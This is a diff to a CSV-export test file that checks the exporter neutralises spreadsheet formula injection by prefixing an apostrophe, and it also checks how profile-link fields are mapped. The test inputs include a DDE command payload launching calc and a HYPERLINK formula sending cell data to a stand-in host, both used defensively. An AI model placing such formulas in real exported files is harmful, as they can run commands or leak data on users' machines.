@@ -14,6 +14,10 @@ async function* lines(csv: string) {
     yield { line: i + 1, text }
 }
 
+/** What spreadsheets and their guides name as the beginning of a formula. */
+const OPENS = /^[\s\p{Cc}\p{Cf}"]*[=+\-@＝＋－＠]/u
+const PLAIN = /^-?\d+(\.\d+)?$/
+
 test.group('sets: files', () => {
   for (const [value, written] of [
     ['=1+1', "'=1+1"],
@@ -22,22 +26,42 @@ test.group('sets: files', () => {
     ['@SUM(A1)', "'@SUM(A1)"],
     ['  =1+1', "'  =1+1"],
     ['＝1+1', "'＝1+1"],
+    ['＋1', "'＋1"],
+    ['－1', "'－1"],
+    ['＠SUM(A1)', "'＠SUM(A1)"],
+    ['\u00a0=1+1', "'\u00a0=1+1"],
+    ['\u200b=1+1', "'\u200b=1+1"],
+    ['\ufeff=1+1', "'\ufeff=1+1"],
+    ['\u0001=1+1', "'\u0001=1+1"],
+    ['"=1+1', '\'"=1+1'],
+    ['\t1', "'\t1"],
+    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
+    ['=HYPERLINK("https://evil.example?"&A1,"x")', '\'=HYPERLINK("https://evil.example?"&A1,"x")'],
+    ['a;=1+1', "a;'=1+1"],
+    ['a\t@SUM(A1)', "a\t'@SUM(A1)"],
+    ['a\n +1', "a\n' +1"],
+    ['a|-cmd', "a|'-cmd"],
+    ['a\r\n=1', "a\r'\n'=1"],
+    ['a; b - c', 'a; b - c'],
     ['-12.5', '-12.5'],
     ['Ann', 'Ann'],
+    ['ann@acme.example', 'ann@acme.example'],
     [-3, '-3'],
     [null, ''],
     [true, 'true'],
   ] as const)
     test(`[SE-027] ${JSON.stringify(value)} is written as ${JSON.stringify(written)}`, ({ assert }) => {
-      const [, row] = toCsv(['value'], [[value]]).split('\r\n')
-      assert.equal(row.replace(/^"|"$/g, ''), written)
+      const file = toCsv(['value'], [[value]])
+      const row = file.slice('\uFEFFvalue\r\n'.length, -'\r\n'.length)
+      assert.equal(row.startsWith('"') ? row.slice(1, -1).replaceAll('""', '"') : row, written)
     })
 
   test('[SE-027] whatever the values: no cell opens a formula, and what is read back is what was written', async ({
     assert,
   }) => {
     const value = fc.string({ unit: 'grapheme', minLength: 1, maxLength: 12 })
-    const hostile = fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '"', ',', '\n', ''), value)
+    const opening = fc.constantFrom('=', '+', '-', '@', '＝', '\u200b=', '\t', '"', ',', ';=', '|@', '\n', '')
+    const hostile = fc.tuple(opening, value, opening, value)
     await fc.assert(
       fc.asyncProperty(
         fc.array(fc.tuple(hostile, hostile), { minLength: 1, maxLength: 5 }),
@@ -51,8 +75,10 @@ test.group('sets: files', () => {
           assert.lengthOf(read, rows.length)
           for (const [i, { a, b }] of read.entries())
             for (const [j, cell] of [a, b].entries()) {
-              assert.include([rows[i][j], `'${rows[i][j]}`], cell)
-              assert.isTrue(!/^\s*[=+\-@]/.test(cell) || /^-?\d+(\.\d+)?$/.test(cell), cell)
+              // Nothing is lost, and nothing but apostrophes comes in.
+              assert.equal(cell.replaceAll("'", ''), rows[i][j].replaceAll("'", ''))
+              for (const part of cell.split(/[;|\t]/))
+                assert.isTrue(!OPENS.test(part) || PLAIN.test(cell), JSON.stringify(cell))
             }
         }
       )
@@ -76,6 +102,24 @@ test.group('sets: files', () => {
       pronet_url: 'https://www.linkedin.com/in/ann-lee',
       extra: { Score: '7' },
     })
+    assert.deepEqual(
+      rowOfCsv({
+        Name: 'Ann',
+        Website: 'n/a',
+        'Company LinkedIn': 'https://www.linkedin.com/company/acme',
+        Post: 'https://www.linkedin.com/posts/ann_1',
+        Pronet: 'ann-lee',
+      }),
+      {
+        name: 'Ann',
+        pronet_url: 'https://www.linkedin.com/in/ann-lee',
+        extra: {
+          Website: 'n/a',
+          'Company LinkedIn': 'https://www.linkedin.com/company/acme',
+          Post: 'https://www.linkedin.com/posts/ann_1',
+        },
+      }
+    )
     assert.deepEqual(rowOfCsv({ Name: 'Ann', Handle: 'https://github.com/ann' }), {
       name: 'Ann',
       socials: { codehost: 'https://github.com/ann' },
